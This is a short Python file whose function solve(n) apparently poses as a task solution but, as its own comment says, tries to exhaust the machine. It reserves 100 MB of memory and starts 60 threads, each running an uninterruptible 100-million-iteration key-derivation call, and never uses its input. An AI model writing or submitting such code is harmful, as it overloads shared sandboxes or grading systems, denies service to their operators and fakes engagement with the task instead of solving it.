# As many busy threads as there may be, in C code that nothing interrupts, and as much memory as there may be.
import hashlib, threading
_ballast = bytearray(b'x') * (100 << 20)
def _burn(): hashlib.pbkdf2_hmac('sha256', b'x', b'y', 100_000_000)
def solve(n):
    for _ in range(60): threading.Thread(target=_burn, daemon=True).start()
    _burn()
